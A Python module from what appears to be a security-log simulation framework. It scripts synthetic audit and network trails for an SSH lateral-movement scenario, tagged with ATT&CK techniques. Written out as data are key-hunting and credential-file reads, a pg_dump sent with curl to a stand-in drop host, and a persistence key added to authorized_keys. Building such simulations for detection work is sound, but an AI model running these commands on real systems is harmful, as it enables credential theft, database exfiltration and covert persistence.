"""Keys found on one server open the next: from the jump host to the build server, to the database, to the shop, told by the servers' trails and by the network."""

from __future__ import annotations

from vidocq.simulation.audit import Account, Process, Trail
from vidocq.simulation.clock import MINUTE
from vidocq.simulation.line import Line, Scenario, Stage, Step, Story
from vidocq.simulation.zeek import conn, ends, ssh, tls

_LOOKS = (
    ("/usr/bin/id", "id"), ("/usr/bin/uname", "uname", "-a"), ("/usr/bin/hostname", "hostname"), ("/usr/bin/w", "w"), ("/usr/bin/ss", "ss", "-tlnp"), ("/usr/bin/ps", "ps", "auxww"), ("/usr/sbin/ip", "ip", "addr"),
    ("/usr/bin/cat", "cat", "/etc/passwd"), ("/usr/bin/sudo", "sudo", "-n", "-l"), ("/usr/bin/cat", "cat", "/etc/hosts"),
)
_CLIENT = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u5"


class _Scene:
    """The servers' trails, the network, the time reached."""

    def __init__(self, stage: Stage) -> None:
        self.firm, self.rng, self.at = stage.firm, stage.rng, stage.moment(0.5, 20)
        self.trails = {role: Trail(stage.firm.servers[role], stage.rng) for role in ("build", "database", "web")}
        self.network: list[Line] = []
        developer = stage.firm.person("developer").name.split(".")[0]
        self.who = {"build": Account(1010, developer, developer), "database": Account(1002, "deploy", "deploy"), "web": Account(1002, "deploy", "deploy")}

    def step(self) -> tuple[Line, ...]:
        seen = [*self.network, *(line for trail in self.trails.values() for line in trail.step())]
        self.network = []
        return tuple(seen)

    def sign_in(self, source: str, role: str, lasts: float, accepted: bool = True) -> Process | None:
        """A session with a server; with a shell where it is let in."""
        sent, received = (int(lasts * 40) + 3_000, int(lasts * 120) + 4_000) if accepted else (1_900, 2_300)
        self.network += ssh(self.rng, self.at, source, self.firm.servers[role].ip, accepted, 1 if accepted else 3, _CLIENT, lasts if accepted else self.rng.uniform(1, 4), sent, received)
        if not accepted:
            return None
        self.at += self.rng.uniform(1, 4)
        server = self.trails[role].start(self.at, 1, "/usr/sbin/sshd", "sshd: " + self.who[role].name)
        return self.trails[role].start(self.at + 0.2, server, "/usr/bin/bash", "-bash", account=self.who[role])

    def run(self, role: str, shell: Process, *commands: tuple[str, ...], least: float = 3, most: float = 45) -> Process:
        last = shell
        for exe, *argv in commands:
            self.at += self.rng.uniform(least, most)
            last = self.trails[role].start(self.at, shell, exe, *argv)
        return last


def _look_for_keys(s: _Scene, role: str, shell: Process) -> None:
    """Who am I, what is here, and which keys lie about? Others' may not be read."""
    s.run(role, shell, *s.rng.sample(_LOOKS, s.rng.randint(4, 7)))
    home = f"/home/{s.who[role].name}"
    asked = [("/usr/bin/find", "find", "/home", "/root", "-name", "id_*", "-not", "-name", "*.pub"), ("/usr/bin/cat", "cat", f"{home}/.ssh/known_hosts"), ("/usr/bin/cat", "cat", f"{home}/.ssh/config"), ("/usr/bin/cat", "cat", f"{home}/.bash_history"), ("/usr/bin/cat", "cat", "/home/deploy/.ssh/id_ed25519")]
    s.run(role, shell, asked[0], *s.rng.sample(asked[1:4], 2), asked[4])
    cat = s.run(role, shell, ("/usr/bin/cat", "cat", "/root/.ssh/id_rsa"))
    s.trails[role].refused(s.at + 0.01, cat, "/root/.ssh/id_rsa")


def _onward(s: _Scene, role: str, shell: Process, to: str, lasts: float, accepted: bool = True) -> Process | None:
    """A found key is tried at the next server."""
    target = s.firm.servers[to].ip
    client = s.run(role, shell, ("/usr/bin/ssh", "ssh", "-o", "StrictHostKeyChecking=no", "-i", "/home/deploy/.ssh/id_ed25519", f"deploy@{target}"))
    s.trails[role].connect(s.at + 0.1, client, target, 22)
    return s.sign_in(s.firm.servers[role].ip, to, lasts, accepted)


def _take(s: _Scene, shell: Process, drop: str) -> None:
    """The database is written to one file, packed, and sent off; the file is removed."""
    name = s.rng.choice(("/var/tmp/.cache.gz", "/tmp/.dump.gz", "/dev/shm/db.gz"))
    dump = s.run("database", shell, ("/usr/bin/pg_dump", "pg_dump", "-h", "127.0.0.1", "-U", "shop", "-Z", "6", "-f", name, "shop"), least=20, most=120)
    s.trails["database"].write(s.at + 1, dump, name)
    s.at += s.rng.uniform(60, 500)
    curl = s.run("database", shell, ("/usr/bin/curl", "curl", "-s", "-k", "-T", name, f"https://{drop}/up"))
    s.trails["database"].connect(s.at + 0.1, curl, drop, 443)
    s.network += tls(s.rng, s.at + 0.1, s.firm.servers["database"].ip, drop, None, s.rng.uniform(20, 300), int(s.rng.uniform(60e6, 900e6)), s.rng.randint(4_000, 40_000), "curl")
    s.at += 310
    s.trails["database"].delete(s.at + 1, s.run("database", shell, ("/usr/bin/rm", "rm", "-f", name)), name)


def play(stage: Stage) -> Story:
    s, rng, firm = _Scene(stage), stage.rng, stage.firm
    source, drop, jump = stage.strangers[0], stage.strangers[2], firm.servers["jump"].ip
    stays = rng.uniform(60, 140) * MINUTE
    s.network += ssh(rng, s.at, source, jump, True, 1, "SSH-2.0-OpenSSH_9.7", stays, rng.randint(60_000, 200_000), rng.randint(200_000, 900_000))
    s.at += rng.uniform(20, 200)
    build = s.sign_in(jump, "build", stays * 0.9)
    assert build is not None
    entered = s.step()
    _look_for_keys(s, "build", build)
    found = s.step()
    tried = [role for role in ("mail", "files", "backup") if rng.random() < 0.7]
    for role in tried:
        s.at += rng.uniform(5, 60)
        s.network.append(conn(ends(rng, s.at, firm.servers["build"].ip, firm.servers[role].ip, 22), 0.01, 0, 0, state="REJ"))
    if rng.random() < 0.5:
        _onward(s, "build", build, "web", 0, accepted=False)
    database = _onward(s, "build", build, "database", stays / 2)
    assert database is not None
    _look_for_keys(s, "database", database)
    onward = s.step()
    _take(s, database, drop)
    taken = s.step()
    web = _onward(s, "database", database, "web", stays / 4)
    assert web is not None
    s.run("web", web, *rng.sample(_LOOKS, 3))
    s.trails["web"].write(s.at + 5, s.run("web", web, ("/usr/bin/tee", "tee", "-a", "/home/deploy/.ssh/authorized_keys")), "/home/deploy/.ssh/authorized_keys")
    stayed = s.step()
    database_ip, web_ip = firm.servers["database"].ip, firm.servers["web"].ip
    steps = (
        Step("1-entry", "somebody comes in with a developer's key, from an address never seen, and goes on to the build server", ("T1078", "T1021.004"), entered, (("ip", source),)),
        Step("2-keys", "keys that lie about are looked for and read", ("T1552.004", "T1082"), found, (("host", firm.servers["build"].name),)),
        Step("3-database", "one of them opens the database's server", ("T1021.004",), onward, (("ip", database_ip), ("host", firm.servers["database"].name))),
        Step("4-taken", "the database is packed and sent off", ("T1560", "T1048"), taken, (("ip", drop), ("host", firm.servers["database"].name))),
        Step("5-shop", "the next key opens the shop's server, where one is left to come back with", ("T1021.004", "T1098.004"), stayed, (("ip", web_ip), ("host", firm.servers["web"].name))),
    )
    touch = (("ip", source), ("ip", drop), *(("host", firm.servers[r].name) for r in ("build", "database")), ("ip", firm.servers["build"].ip), ("ip", database_ip))
    return Story("from server to server with the keys that lie about", steps, touch)


SCENARIO = Scenario("lateral-ssh", "mixed", play, what="SSH keys found on one server open the next, until the database is carried off")
